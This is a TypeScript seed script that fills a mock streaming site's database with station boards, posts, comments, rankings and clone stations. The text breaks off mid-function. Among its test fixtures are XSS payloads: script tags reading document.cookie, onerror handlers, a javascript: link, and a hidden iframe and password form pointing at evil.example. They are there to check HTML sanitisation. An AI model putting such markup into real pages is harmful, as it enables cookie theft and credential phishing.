// Deterministic station data on top of the core dataset: every streamer's station gets display settings,
// boards and a few posts; the demo streamer's station is rich (every board type and read permission,
// notices, pins, photos, hostile HTML to prove the portal sanitises, rankings, links, badges, blinded
// VODs, playlists). Clones of the demo streamer get a station of their own (cloneStation).
// These are the one post table of the reference upstream: the feed, the hot list, search, the story list
// and favourites' new posts list these rows (seedSharedPosts adds what those roles need), so a post seen
// anywhere opens at /station/{id}/post/{n} with its comments and author.
import { toJson } from "../db";
import { DEMO_ACCOUNTS } from "../seed/catalogue";
import { postSentences } from "../seed/korean";
import type { Rng } from "../seed/prng";
import { DAY, HOUR, kstDate, kstWallClock, MINUTE, parseKstWallClock } from "../time";
import type { Db, SeedContext } from "../types";

export const DEMO_STREAMER = "streamer01";
export const POST_TITLE_START = 90_000_000;
/**
 * Stations in these states answer with their error code (001 §8); the test API lists them. 1003 stands
 * for the channel API's CHA1003 (a suspended user: here the station's owner).
 */
export const STATUS_CODES = [9001, 9002, 9100, 1003] as const;

type BoardSeed = { bbsNo: number; name: string; displayType: number; authNo: number; wAuthNo: number };

/** The demo station's boards: every display type and every read permission (001 §6, §9). */
const DEMO_BOARDS: BoardSeed[] = [
  { bbsNo: 1001, name: "방송국 소식", displayType: 107, authNo: 101, wAuthNo: 102 },
  { bbsNo: 1002, name: "공지사항", displayType: 104, authNo: 101, wAuthNo: 106 },
  { bbsNo: 1003, name: "자유게시판", displayType: 104, authNo: 101, wAuthNo: 101 },
  { bbsNo: 101, name: "방명록", displayType: 101, authNo: 101, wAuthNo: 101 },
  { bbsNo: 1004, name: "", displayType: 106, authNo: 101, wAuthNo: 102 },
  { bbsNo: 1005, name: "팬 전용", displayType: 107, authNo: 101, wAuthNo: 102 },
  { bbsNo: 1006, name: "즐겨찾기 게시판", displayType: 104, authNo: 103, wAuthNo: 103 },
  { bbsNo: 1007, name: "팬클럽 게시판", displayType: 104, authNo: 104, wAuthNo: 104 },
  { bbsNo: 1008, name: "구독자 게시판", displayType: 104, authNo: 107, wAuthNo: 107 },
  { bbsNo: 1009, name: "매니저 게시판", displayType: 104, authNo: 106, wAuthNo: 106 },
  { bbsNo: 1010, name: "비공개 게시판", displayType: 104, authNo: 102, wAuthNo: 102 },
  { bbsNo: 1011, name: "", displayType: 106, authNo: 101, wAuthNo: 102 },
  { bbsNo: 105, name: "업로드 VOD", displayType: 105, authNo: 101, wAuthNo: 102 },
  { bbsNo: 108, name: "다시보기", displayType: 108, authNo: 101, wAuthNo: 102 },
  { bbsNo: 109, name: "하이라이트", displayType: 109, authNo: 101, wAuthNo: 102 },
];

/** Every other station's boards: the demo station's usual ones. */
const PLAIN_BOARDS = DEMO_BOARDS.filter((board) => [1002, 1003, 101, 105, 108, 109].includes(board.bbsNo));

/** Post bodies that must never reach a browser as they are. */
export const HOSTILE_HTML = [
  `<p>이벤트 안내입니다.<img src="x" onerror="alert('xss')"></p><script>alert(document.cookie)</script>`,
  `<p><a href="javascript:alert(1)">여기를 눌러 경품 받기</a></p><iframe src="//evil.example/frame"></iframe>`,
  `<p style="position:fixed;inset:0;background:red" onclick="alert(2)">공지 확인 부탁드립니다.</p><form action="//evil.example"><input name="pw"></form>`,
];

const TITLE_WORDS = [
  "오늘 방송 후기",
  "이번 주 일정",
  "이벤트 당첨자 발표",
  "자유롭게 이야기해요",
  "신청곡 받아요",
  "방송 장비 바꿨어요",
  "굿즈 제작 설문",
  "합방 예고",
  "휴방 안내",
  "팬아트 감사합니다",
];
const GUEST_WORDS = ["잘 보고 가요!", "오늘 방송 최고였어요", "항상 응원합니다", "다음 방송도 기대할게요", "첫 방문이에요 반가워요"];
const LINK_SEEDS: Array<[number, string, string]> = [
  [1, "https://facebook.com/streamon.demo", "페이스북"],
  [2, "https://instagram.com/streamon.demo", "인스타그램"],
  [3, "https://youtube.com/@streamon-demo", "유튜브"],
  [4, "https://cafe.naver.com/streamondemo", "팬카페"],
  [5, "https://store.streamon.co.kr/demo", "스트림온 스토어"],
  [9, "https://blog.example.com/demo", "개인 블로그"],
];
const BADGE_SEEDS: Array<[string, string, string]> = [
  ["파트너 스트리머", "badge_partner", "#0545b1"],
  ["베스트 스트리머", "badge_best", "#7a3cc2"],
  ["스트리머 대상", "badge_award", "#8a5200"],
  ["신인 스트리머", "badge_rookie", "#1e7a3c"],
  ["테스트 배지", "", "#999999"],
];
const FAN_POSTS = [
  "오늘 방송 너무 재밌었어요! 다음 방송도 기다릴게요.",
  "방송국 처음 와봤는데 분위기 좋네요 ㅎㅎ",
  "어제 다시보기로 봤는데 레전드 장면 있었어요.",
  "팬아트 그려봤어요. 부족하지만 봐주세요!",
];
const NOTICES = ["이번 주 방송 일정 안내", "합방 공지: 토요일 저녁 8시", "방송 휴식 공지", "구독자 이벤트 안내"];
const COMMENTS = [
  "오늘 방송 정말 재밌었어요!",
  "다음 방송도 기대할게요",
  "ㅋㅋㅋㅋ 레전드",
  "응원합니다 화이팅!",
  "좋은 정보 감사합니다",
  "저도 같은 생각이에요",
  "언제 또 합방하나요?",
  "사진 너무 예뻐요",
  "공지 확인했습니다",
  "다시보기로 봤어요",
];
/** Posts the search tests look for (000 §2.7): HTML and pattern characters in the keyword; one only older than a month. */
const SEARCH_FIXTURES = [
  {
    title: "강조 테스트: <script>alert(1)</script> 와 (a+b)*c 정리",
    content: "<p>정규식 .* 과 [a-z]+ 같은 특수문자도 글자 그대로 찾습니다. 본문의 <b>서식</b>은 빼고 글자만 보여 줍니다. 강조 테스트 끝.</p>",
    days: 2,
  },
  { title: "오래된공지 모음", content: "<p>오래된공지 내용입니다. 예전 방송 기록을 정리했어요.</p>", days: 200 },
];
const BLIND_REASONS = ["저작권 신고로 블라인드 처리되었습니다.", "운영정책 위반 신고로 블라인드 처리되었습니다."];

function paragraphs(rng: Rng, count: number): string {
  return postSentences(rng, count)
    .map((sentence) => `<p>${sentence}</p>`)
    .join("");
}

type Ctx = { db: Db; rng: Rng; now: number };

function insertBoards(db: Db, stationNo: number, boards: BoardSeed[]) {
  const insert = db.prepare("INSERT INTO station_boards (station_no, bbs_no, name, display_type, auth_no, w_auth_no, rnum) VALUES (?, ?, ?, ?, ?, ?, ?)");
  boards.forEach((board, index) => insert.run(stationNo, board.bbsNo, board.name, board.displayType, board.authNo, board.wAuthNo, index + 1));
}

let nextTitleNo = POST_TITLE_START;
let nextPhotoNo = 1;

function insertPost(
  db: Db,
  post: {
    stationNo: number;
    bbsNo: number;
    userId: string;
    title: string;
    content: string;
    regDate: string;
    readCnt: number;
    likeCnt: number;
    isNotice?: boolean;
    hashTags?: string[];
  },
  photos = 0,
): number {
  nextTitleNo += 1;
  db.prepare(
    `INSERT INTO station_posts (title_no, station_no, bbs_no, user_id, title, content, reg_date, read_cnt, like_cnt, is_notice, hash_tags)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  ).run(
    nextTitleNo,
    post.stationNo,
    post.bbsNo,
    post.userId,
    post.title,
    post.content,
    post.regDate,
    post.readCnt,
    post.likeCnt,
    post.isNotice ? 1 : 0,
    toJson(post.hashTags ?? []),
  );
  for (let index = 0; index < photos; index += 1) {
    db.prepare("INSERT INTO station_photos (photo_no, title_no, position, label, mime, data) VALUES (?, ?, ?, ?, NULL, NULL)").run(
      nextPhotoNo,
      nextTitleNo,
      index,
      `사진 ${index + 1}`,
    );
    nextPhotoNo += 1;
  }
  return nextTitleNo;
}

const DEMO_IDS = new Set(DEMO_ACCOUNTS.map((account) => account.userId));

/**
 * The first `count` of the world's people who write posts and comments: never a demo account, each of which has a
 * designed state (abroad01 has written nothing; viewer01's own posts and comments are seeded on purpose).
 */
function peopleOf(pool: Array<{ user_id: string }>, count: number): string[] {
  return pool
    .filter((person) => !DEMO_IDS.has(person.user_id))
    .slice(0, count)
    .map((person) => person.user_id);
}

function insertComments(db: Db, rng: Rng, titleNo: number, writers: string[], regDate: number, count: number) {
  const insert = db.prepare("INSERT INTO station_comments (title_no, user_id, comment, reg_date) VALUES (?, ?, ?, ?)");
  for (let index = 0; index < count; index += 1)
    insert.run(titleNo, rng.pick(writers), rng.pick(GUEST_WORDS), kstWallClock(regDate + (index + 1) * 17 * MINUTE));
}

/** One comment (a reply when `parentNo` is given); its number. */
function insertComment(db: Db, comment: { titleNo: number; userId: string; text: string; regDate: number; parentNo?: number | null }): number {
  return Number(
    db
      .prepare("INSERT INTO station_comments (title_no, parent_no, user_id, comment, reg_date) VALUES (?, ?, ?, ?, ?)")
      .run(comment.titleNo, comment.parentNo ?? null, comment.userId, comment.text, kstWallClock(comment.regDate)).lastInsertRowid,
  );
}

function insertDisplay(db: Db, rng: Rng, stationNo: number, userId: string, nickname: string, demo: boolean) {
  const activeNo = rng.int(0, 1);
  const ranks = [
    { rank_type: "total", rank_name: "전체 랭킹", total_rank: rng.int(1, 5000), total_rank_last: rng.int(1, 5000) },
    { rank_type: "category", rank_name: "카테고리 랭킹", total_rank: rng.int(1, 400), total_rank_last: rng.int(1, 400) },
  ];
  db.prepare(
    `INSERT INTO station_display (station_no, user_id, main_type, title_type, title_text, skin_type, ai_profile_conf_yn, ai_profile_str,
       subscribe_visible, active_no, status_code, menu_store, menu_best, menu_partner, menu_supporters,
       today0_visit_cnt, today1_visit_cnt, today0_ok_cnt, today1_ok_cnt, today0_fav_cnt, today1_fav_cnt, total_view_cnt,
       fanclub_cnt, supporter_cnt, tier1_cnt, tier2_cnt, rank_json, is_adsence)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, 0, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  ).run(
    stationNo,
    userId,
    "home",
    "text",
    demo
      ? `<p><strong>${nickname}</strong>의 방송국입니다! 매일 저녁 8시 방송<img src="x" onerror="alert('title')"></p>`
      : `<p><strong>${nickname}</strong>의 방송국에 오신 것을 환영합니다</p>`,
    rng.int(1, 4),
    demo || rng.chance(0.3) ? "Y" : "N",
    `${nickname}님은 시청자와 소통하며 즐겁게 방송하는 스트리머예요. AI가 방송 기록을 바탕으로 정리한 소개입니다.`,
    "on",
    activeNo,
    demo ? 1 : rng.chance(0.2) ? 1 : 0,
    demo ? 1 : 0,
    demo ? 1 : 0,
    demo ? 1 : 0,
    rng.int(0, 5000),
    rng.int(0, 5000),
    rng.int(0, 800),
    rng.int(0, 800),
    rng.int(0, 300),
    rng.int(0, 300),
    rng.int(1_000, 50_000_000),
    rng.int(0, 3000),
    rng.int(0, 500),
    demo ? 1234 : rng.int(0, 900),
    demo ? 567 : rng.int(0, 200),
    toJson(ranks),
    demo ? 1 : 0,
  );
}

function insertRankings(
  db: Db,
  rng: Rng,
  stationNo: number,
  pool: Array<{ user_id: string; nickname: string }>,
  sizes: { topfan: number; acc: number; gift: number },
  now: number,
) {
  const insert = db.prepare(
    "INSERT INTO station_rankings (station_no, kind, rank, user_id, user_nick, score, first_payment_date) VALUES (?, ?, ?, ?, ?, ?, ?)",
  );
  for (const kind of ["topfan", "acc", "gift"] as const) {
    const people = rng.sample(pool, sizes[kind]);
    let score = kind === "topfan" ? rng.int(200_000, 900_000) : kind === "acc" ? rng.int(30, 60) : rng.int(100, 300);
    people.forEach((person, index) => {
      insert.run(stationNo, kind, index + 1, person.user_id, person.nickname, score, kind === "acc" ? kstWallClock(now - rng.int(30, 1500) * DAY) : null);
      score = Math.max(1, score - rng.int(1, Math.max(2, Math.floor(score / 8))));
    });
  }
}

function seedDemoStation({ db, rng, now }: Ctx, stationNo: number, pool: Array<{ user_id: string; nickname: string }>) {
  insertBoards(db, stationNo, DEMO_BOARDS);
  const readers = ["viewer01", "manager01", "teen01", ...peopleOf(pool, 10)];
  const titles = [...TITLE_WORDS];
  const post = (bbsNo: number, index: number, extra: Partial<Parameters<typeof insertPost>[1]> = {}, photos = 0) => {
    const regDate = now - (index * 9 + rng.int(1, 8)) * HOUR;
    const titleNo = insertPost(
      db,
      {
        stationNo,
        bbsNo,
        userId: DEMO_STREAMER,
        title: `${titles[index % titles.length]} ${index + 1}`,
        content: paragraphs(rng, rng.int(2, 4)),
        regDate: kstWallClock(regDate),
        readCnt: rng.int(10, 30_000),
        likeCnt: rng.int(0, 900),
        hashTags: rng.chance(0.5) ? ["공지", "방송"].slice(0, rng.int(1, 2)) : [],
        ...extra,
      },
      photos,
    );
    insertComments(db, rng, titleNo, readers, regDate, rng.int(0, 4));
    return titleNo;
  };

  // 공지사항: notices, one with hostile HTML, one with photos; pinned posts (one still shown, one expired).
  const notice = post(1002, 0, {
    isNotice: true,
    title: "방송국 이용 규칙 안내",
    content: `<h3>꼭 읽어주세요</h3>${paragraphs(rng, 3)}<ul><li>욕설 금지</li><li>도배 금지</li></ul>`,
  });
  post(1002, 1, { isNotice: true, title: "이번 달 방송 일정", content: HOSTILE_HTML[0] });
  const photoPost = post(1002, 2, { title: "오프라인 팬미팅 사진", content: `<p>팬미팅에 와주셔서 감사합니다!</p>${paragraphs(rng, 2)}` }, 3);
  db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(
    stationNo,
    notice,
    kstDate(now + 30 * DAY),
    kstWallClock(now - DAY),
  );
  db.prepare("INSERT INTO station_pins (station_no, title_no, expire_date, reg_date) VALUES (?, ?, ?, ?)").run(
    stationNo,
    photoPost,
    kstDate(now - 2 * DAY),
    kstWallClock(now - 20 * DAY),
  );

  // 자유게시판: enough posts by the streamer and by viewers to page (20 per page).
  for (let index = 3; index < 48; index += 1) {
    const byViewer = index % 3 === 0;
    post(
      1003,
      index,
      {
        userId: byViewer ? rng.pick(readers) : DEMO_STREAMER,
        content: index === 7 ? HOSTILE_HTML[1] : index === 11 ? HOSTILE_HTML[2] : paragraphs(rng, rng.int(1, 3)),
      },
      index % 10 === 4 ? 1 : 0,
    );
  }
  // Guestbook entries by viewers.
  for (let index = 0; index < 12; index += 1) {
    post(101, index, { userId: rng.pick(readers), title: rng.pick(GUEST_WORDS), content: `<p>${rng.pick(GUEST_WORDS)}</p>` });
  }
  // One post in every restricted board.
  post(1006, 1, { title: "즐겨찾기한 분들께만 알려드려요" });
  post(1007, 2, { title: "팬클럽 정기 모임 공지" });
  post(1008, 3, { title: "구독자 전용 비하인드" });
  post(1009, 4, { title: "매니저 회의록" });
  post(1010, 5, { title: "나만 보는 메모" });

  db.prepare("INSERT INTO station_managers (station_no, user_id) VALUES (?, ?)").run(stationNo, "manager01");
  db.prepare("INSERT INTO station_members (station_no, user_id, is_fanclub, is_subscriber) VALUES (?, ?, 1, 1)").run(stationNo, "viewer01");
  db.prepare("INSERT INTO station_blacklist (station_no, user_id) VALUES (?, ?)").run(stationNo, "suspended01");

  insertRankings(db, rng, stationNo, pool, { topfan: 30, acc: 25, gift: 12 }, now);
  const insertLink = db.prepare("INSERT INTO station_links (station_no, code, url, link_name, position) VALUES (?, ?, ?, ?, ?)");
  LINK_SEEDS.forEach(([code, url, name], index) => insertLink.run(stationNo, code, url, name, index));
  const insertBadge = db.prepare(
    "INSERT INTO station_badges (station_no, idx, group_no, priority, group_name, group_class_name, group_background_color) VALUES (?, ?, ?, ?, ?, ?, ?)",
  );
  // The class-less badge comes first: the portal must skip it and still show three.
  [BADGE_SEEDS[4], ...BADGE_SEEDS.slice(0, 4)].forEach(([name, className, colour], index) =>
    insertBadge.run(stationNo, index + 1, 100 + index, index + 1, name, className, colour),
  );

  const vods = db
    .prepare("SELECT title_no FROM vods WHERE station_no = ? AND file_type IN ('REVIEW','NORMAL','HIGHLIGHT','CLIP') ORDER BY title_no")
    .pluck()
    .all(stationNo) as number[];
  vods
    .slice(0, 2)
    .forEach((titleNo, index) =>
      db
        .prepare("INSERT INTO station_vod_blinds (title_no, blind_id, reason, reg_date) VALUES (?, ?, ?, ?)")
        .run(titleNo, 700 + index, BLIND_REASONS[index], kstWallClock(now - (index + 1) * DAY)),
    );
  const insertPlaylist = db.prepare("INSERT INTO station_playlists (station_no, user_id, title, title_nos, reg_date) VALUES (?, ?, ?, ?, ?)");
  insertPlaylist.run(stationNo, DEMO_STREAMER, "레전드 모음", toJson(vods.slice(2, 8)), kstWallClock(now - 10 * DAY));
  insertPlaylist.run(stationNo, DEMO_STREAMER, "처음 오신 분들께", toJson(vods.slice(8, 11)), kstWallClock(now - 40 * DAY));
  insertPlaylist.run(stationNo, DEMO_STREAMER, "준비 중인 목록", toJson([]), kstWallClock(now - 3 * DAY));
}

function seedPlainStation({ db, rng, now }: Ctx, stationNo: number, userId: string, pool: Array<{ user_id: string; nickname: string }>) {
  insertBoards(db, stationNo, PLAIN_BOARDS);
  const commenters = peopleOf(pool, 5);
  const count = rng.int(0, 6);
  for (let index = 0; index < count; index += 1) {
    const regDate = now - rng.int(1, 24 * 200) * HOUR;
    const titleNo = insertPost(db, {
      stationNo,
      bbsNo: index === 0 ? 1002 : 1003,
      userId,
      title: `${rng.pick(TITLE_WORDS)}`,
      content: paragraphs(rng, rng.int(1, 3)),
      regDate: kstWallClock(regDate),
      readCnt: rng.int(0, 5000),
      likeCnt: rng.int(0, 300),
      isNotice: index === 0,
    });
    insertComments(db, rng, titleNo, commenters, regDate, rng.int(0, 2));
  }
  // Some stations have only one of the two subscription rankings (the toggle then stays hidden).
  const shape = rng.int(0, 3);
  insertRankings(db, rng, stationNo, pool, { topfan: rng.int(0, 12), acc: shape === 1 ? 0 : rng.int(0, 8), gift: shape === 2 ? 0 : rng.int(0, 5) }, now);
  if (rng.chance(0.5))
    db.prepare("INSERT INTO station_links (station_no, code, url, link_name, position) VALUES (?, 3, ?, '유튜브', 0)").run(
      stationNo,
      `https://youtube.com/@${userId}`,
    );
  if (rng.chance(0.3)) {
    db.prepare(
      "INSERT INTO station_badges (station_no, idx, group_no, priority, group_name, group_class_name, group_background_color) VALUES (?, 1, 100, 1, '파트너 스트리머', 'badge_partner', '#0545b1')",
    ).run(stationNo);
  }
}

/**
 * What the other host roles list, as station posts and comments (after every station is seeded, so that
 * the stations above stay as they were): notices and fans' posts on the stations the demo accounts follow
 * (the feed, its NOTICE type and streamer-only filter, the hot list), one post whose HTML must be cleaned,
 * the posts the search tests look for, viewer01's own posts, comments and replies and the demo streamer's
 * replies (the story list), and the comments each VOD's count promises (a VOD post lists them).
 */
function seedSharedPosts({ db, rng, now }: Ctx, pool: Array<{ user_id: string; nickname: string }>) {
  const stationOf = db.prepare("SELECT station_no FROM stations WHERE user_id = ?").pluck();
  const others = db.prepare("SELECT user_id FROM users WHERE kind = 'streamer' AND user_id <> ? ORDER BY user_id").pluck().all(DEMO_STREAMER) as string[];
  const commenters = peopleOf(pool, 40);
  const postOn = (
    userId: string,
    post: { author: string; bbsNo: number; title: string; content: string; regDate: number; isNotice?: boolean },
    photos = 0,
  ): number =>
    insertPost(
      db,
      {
        stationNo: stationOf.get(userId) as number,
        bbsNo: post.bbsNo,
        userId: post.author,
        title: post.title,
        content: post.content,
        regDate: kstWallClock(post.regDate),
        readCnt: rng.int(0, rng.chance(0.1) ? 80_000 : 3_000),
        likeCnt: rng.int(0, 600),
        isNotice: post.isNotice,
        hashTags: rng.chance(0.3) ? [rng.pick(["공지", "방송", "일상", "팬아트"])] : [],
      },
      photos,
    );

  // Notices and fans' posts on the stations the demo accounts follow, and a sprinkle elsewhere.
  const followed = db.prepare("SELECT DISTINCT bj_id FROM favorites WHERE bj_id <> ? ORDER BY bj_id").pluck().all(DEMO_STREAMER) as string[];
  for (const station of [...followed, ...rng.sample(others, 60)]) {
    if (rng.chance(0.5)) {
      const regDate = now - rng.int(60, 60 * 24 * 25) * MINUTE;
      const [line] = postSentences(rng, 1);
      const titleNo = postOn(
        station,
        {
          author: station,
          bbsNo: 1002,
          isNotice: true,
          title: rng.pick(NOTICES),
          content: `<p><strong>공지</strong> ${line}</p><p><a href="https://example.com/schedule" target="_blank">일정 보기</a></p>`,
          regDate,
        },
        rng.chance(0.3) ? 1 : 0,
      );
      insertComments(db, rng, titleNo, commenters, regDate, rng.int(0, 3));
    }
    for (let index = rng.int(0, 2); index > 0; index -= 1) {
      const regDate = now - rng.int(20, 60 * 24 * 20) * MINUTE;
      const text = rng.pick(FAN_POSTS);
      const titleNo = postOn(
        station,
        { author: rng.pick(others.filter((id) => id !== station)), bbsNo: 1003, title: text.slice(0, 18), content: `<p>${text}</p>`, regDate },
        rng.chance(0.4) ? rng.int(1, 3) : 0,
      );
      insertComments(db, rng, titleNo, commenters, regDate, rng.int(0, 3));
    }
  }
  // One post whose HTML must be cleaned before it is shown, the newest of its station.
  if (followed[0])
    postOn(followed[0], {
      author: followed[0],
      bbsNo: 1003,
      title: "이벤트 당첨자 발표",
      content: `<p onclick="alert(1)">당첨을 축하드립니다!</p><script>alert("xss")</script><img src="x" onerror="alert(2)">`,
      regDate: now - 15 * MINUTE,
    });
  // The posts the search tests look for, on the first station that is not the demo streamer's.
  const searched = others[0];
  for (const fixture of SEARCH_FIXTURES)
    postOn(searched, { author: searched, bbsNo: 1003, title: fixture.title, content: fixture.content, regDate: now - fixture.days * DAY });

  // viewer01's own posts on favourite stations (every third with photos), comments and replies on the
  // demo streamer's and favourites' posts, and replies to comments on its own posts.
  const favourites = db
    .prepare("SELECT bj_id FROM favorites WHERE user_id = 'viewer01' AND bj_id <> ? ORDER BY reg_date DESC, bj_id")
    .pluck()
    .all(DEMO_STREAMER) as string[];
  const own: Array<{ titleNo: number; regDate: number }> = [];
  favourites.slice(0, 8).forEach((station, index) => {
    const [title, ...rest] = postSentences(rng, 3);
    const regDate = now - rng.int(30, 60 * 24 * 30) * MINUTE;
    own.push({
      titleNo: postOn(
        station,
        { author: "viewer01", bbsNo: 1003, title, content: `<p>${rest.join("</p><p>")}</p>`, regDate },
        index % 3 === 1 ? rng.int(1, 3) : 0,
      ),
      regDate,
    });
  });
  const firstPosts = db.prepare(
    "SELECT title_no, reg_date FROM station_posts WHERE station_no = ? AND bbs_no IN (1002, 1003) AND user_id <> 'viewer01' ORDER BY title_no LIMIT 2",
  );
  for (const station of [DEMO_STREAMER, ...favourites.slice(0, 13)]) {
    for (const post of firstPosts.all(stationOf.get(station)) as Array<{ title_no: number; reg_date: string }>) {
      const at = parseKstWallClock(post.reg_date) + rng.int(5, 600) * MINUTE;
      insertComment(db, { titleNo: post.title_no, userId: "viewer01", text: rng.pick(COMMENTS), regDate: at });
      if (rng.chance(0.5)) {
        const parentNo = insertComment(db, { titleNo: post.title_no, userId: rng.pick(commenters), text: rng.pick(COMMENTS), regDate: at + MINUTE });
        insertComment(db, { titleNo: post.title_no, userId: "viewer01", text: rng.pick(COMMENTS), regDate: at + 2 * MINUTE, parentNo });
      }
    }
  }
  for (const post of own.slice(0, 3)) {
    const parentNo = insertComment(db, { titleNo: post.titleNo, userId: rng.pick(commenters), text: rng.pick(COMMENTS), regDate: post.regDate + 7 * MINUTE });
    insertComment(db, { titleNo: post.titleNo, userId: "viewer01", text: "댓글 감사합니다!", regDate: post.regDate + 9 * MINUTE, parentNo });
  }
  // The demo streamer answers the first comments on three of its posts.
  const firstComments = db
    .prepare(
      `SELECT c.comment_no, c.title_no, c.reg_date FROM station_comments c JOIN station_posts p ON p.title_no = c.title_no
       WHERE p.station_no = ? AND p.user_id = ? AND c.user_id <> ? AND c.parent_no IS NULL
       AND c.comment_no = (SELECT MIN(comment_no) FROM station_comments f WHERE f.title_no = c.title_no) ORDER BY c.title_no LIMIT 3`,
    )
    .all(stationOf.get(DEMO_STREAMER), DEMO_STREAMER, DEMO_STREAMER) as Array<{ comment_no: number; title_no: number; reg_date: string }>;
  for (const comment of firstComments)
    insertComment(db, {
      titleNo: comment.title_no,
      userId: DEMO_STREAMER,
      text: "댓글 감사합니다!",
      regDate: parseKstWallClock(comment.reg_date) + 5 * MINUTE,
      parentNo: comment.comment_no,
    });

  // Every VOD has the comments its count says (a VOD post lists them under '댓글 {n}').
  const vods = db.prepare("SELECT title_no, comment_cnt, reg_date FROM vods ORDER BY title_no").all() as Array<{
    title_no: number;
    comment_cnt: number;
    reg_date: string;
  }>;
  const insert = db.prepare("INSERT INTO station_comments (title_no, user_id, comment, reg_date) VALUES (?, ?, ?, ?)");
  for (const vod of vods) {
    const start = parseKstWallClock(vod.reg_date);
    for (let index = 0; index < vod.comment_cnt; index += 1)
      insert.run(vod.title_no, rng.pick(commenters), rng.pick(COMMENTS), kstWallClock(start + (index + 1) * 13 * MINUTE));
  }

  // A long thread on the demo station (comments page by 20): 45 comments, the newest three answered.
  const relayAt = now - 3 * DAY - 5 * HOUR;
  const relay = postOn(DEMO_STREAMER, {
    author: DEMO_STREAMER,
    bbsNo: 1003,
    title: "댓글 릴레이: 응원 한마디 남겨 주세요",
    content: "<p>오늘 방송을 본 소감을 한 줄씩 남겨 주세요!</p>",
    regDate: relayAt,
  });
  for (let index = 0; index < 45; index += 1) {
    const at = relayAt + (index + 1) * 11 * MINUTE;
    const parentNo = insertComment(db, { titleNo: relay, userId: rng.pick(commenters), text: `${index + 1}번째 응원: ${rng.pick(COMMENTS)}`, regDate: at });
    if (index >= 42) insertComment(db, { titleNo: relay, userId: DEMO_STREAMER, text: "고마워요!", regDate: at + MINUTE, parentNo });
  }
}

export function seedStations({ db, rng, now }: SeedContext) {
  nextTitleNo = POST_TITLE_START;
  nextPhotoNo = 1;
  const stations = db
    .prepare("SELECT s.station_no, s.user_id, u.nickname FROM stations s JOIN users u ON u.user_id = s.user_id ORDER BY s.station_no")
    .all() as Array<{
    station_no: number;
    user_id: string;
    nickname: string;
  }>;
  const pool = db.prepare("SELECT user_id, nickname FROM users ORDER BY user_id").all() as Array<{ user_id: string; nickname: string }>;
  for (const station of stations) {
    const demo = station.user_id === DEMO_STREAMER;
    insertDisplay(db, rng, station.station_no, station.user_id, station.nickname, demo);
    if (demo)
      seedDemoStation(
        { db, rng, now },
        station.station_no,
        pool.filter((person) => person.user_id !== DEMO_STREAMER),
      );
    else
      seedPlainStation(
        { db, rng, now },
        station.station_no,
        station.user_id,
        pool.filter((person) => person.user_id !== station.user_id),
      );
  }
  // A few stations that are not live are blinded, sleeping, banned or their owner suspended (001 §8).
  const offline = db
    .prepare("SELECT s.station_no FROM stations s WHERE s.user_id <> ? AND s.user_id NOT IN (SELECT user_id FROM lives) ORDER BY s.station_no DESC LIMIT ?")
    .pluck()
    .all(DEMO_STREAMER, STATUS_CODES.length) as number[];
  offline.forEach((stationNo, index) => db.prepare("UPDATE station_display SET status_code = ? WHERE station_no = ?").run(STATUS_CODES[index], stationNo));
  // viewer01 holds one unused subscription ticket (001 §4.7).
  db.prepare("INSERT INTO item_tickets (svc_coupon, user_id, prod_name, ticket_type, period_days, reg_date) VALUES (?, ?, ?, ?, ?, ?)").run(
    "SUBS-TICKET-0001",
    "viewer01",
    "구독권 1개월",
    "MONTH",
    30,
    kstWallClock(now - 5 * DAY),
  );
  seedSharedPosts(
    { db, rng, now },
    pool.filter((person) => !["viewer01", DEMO_STREAMER].includes(person.user_id)),
  );
}

/** Copies every row of `table` for a station (keyed by station_no) to another station. */
function copyStationRows(db: Db, table: string, from: number, to: number, skip: string[] = []) {
  const columns = (db.prepare(`PRAGMA table_info("${table}")`).all() as Array<{ name: string }>).map((c) => c.name).filter((name) => !skip.includes(name));
  const list = columns.map((name) => `"${name}"`).join(", ");
  const select = columns.map((name) => (name === "station_no" ? "?" : `"${name}"`)).join(", ");
  db.prepare(`INSERT INTO "${table}" (${list}) SELECT ${select} FROM "${table}" WHERE station_no = ?`).run(to, from);
}

/** Copies the comments of a post or VOD to another, replies still answering their copied comment; the template's
 * own comments become the clone's, as its posts do. What other tests' accounts (clones) wrote there is theirs and
 * stays where it was written: copied, it would show in their '내 글/댓글' as comments they never wrote. */
function copyComments(db: Db, from: number, to: number, fromUserId: string, toUserId: string) {
  const comments = db
    .prepare(
      `SELECT c.* FROM station_comments c JOIN users u ON u.user_id = c.user_id
       WHERE c.title_no = ? AND u.cloned_from IS NULL ORDER BY c.comment_no`,
    )
    .all(from) as Array<{
    comment_no: number;
    parent_no: number | null;
    user_id: string;
    comment: string;
    reg_date: string;
    modify_date: string | null;
    is_pin: number;
    is_hide: number;
  }>;
  const numbers = new Map<number, number>();
  const insert = db.prepare(
    "INSERT INTO station_comments (title_no, parent_no, user_id, comment, reg_date, modify_date, is_pin, is_hide) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
  );
  for (const comment of comments) {
    // A reply to a comment left where it was stays with it.
    if (comment.parent_no !== null && !numbers.has(comment.parent_no)) continue;
    const parentNo = comment.parent_no === null ? null : numbers.get(comment.parent_no)!;
    const writer = comment.user_id === fromUserId ? toUserId : comment.user_id;
    const copy = insert.run(to, parentNo, writer, comment.comment, comment.reg_date, comment.modify_date, comment.is_pin, comment.is_hide);
    numbers.set(comment.comment_no, Number(copy.lastInsertRowid));
  }
}

/**
 * A station of its own for a clone of a streamer (test isolation): the template station's display,
 * boards, posts (with photos, comments and pins), rankings, links, badges, managers, a dozen VODs with
 * their comments and blinds, and a name of its own so that it never counts as a duplicate.
 */
export function cloneStation(db: Db, fromUserId: string, toUserId: string) {
  const template = db.prepare("SELECT * FROM stations WHERE user_id = ?").get(fromUserId) as (Record<string, unknown> & { station_no: number }) | undefined;
  if (!template) return;
  const stationNo = (db.prepare("SELECT MAX(station_no) FROM stations").pluck().get() as number) + 1;
  db.prepare(
    `INSERT INTO stations (station_no, user_id, station_name, station_title, profile_text, joined_at, last_broad_start, total_broad_time, fan_cnt,
       total_visit_cnt, total_ok_cnt, main_category_no)
     SELECT ?, ?, station_name || ' ' || ?, station_title, profile_text, joined_at, last_broad_start, total_broad_time, fan_cnt, total_visit_cnt,
       total_ok_cnt, main_category_no FROM stations WHERE station_no = ?`,
  ).run(stationNo, toUserId, String(stationNo), template.station_no);
